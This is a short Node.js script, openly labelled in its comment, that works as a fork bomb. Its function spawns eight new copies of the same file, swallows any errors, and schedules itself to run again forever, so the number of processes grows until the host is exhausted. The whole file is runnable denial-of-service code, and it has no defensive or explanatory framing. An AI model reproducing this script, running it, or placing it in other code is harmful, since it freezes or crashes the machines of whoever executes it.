// Every process starts others, for ever, whatever it is told.
const { spawn } = require('node:child_process');

function bomb() {
  for (let i = 0; i < 8; i++) {
    spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
  }
  setImmediate(bomb);
}
bomb();
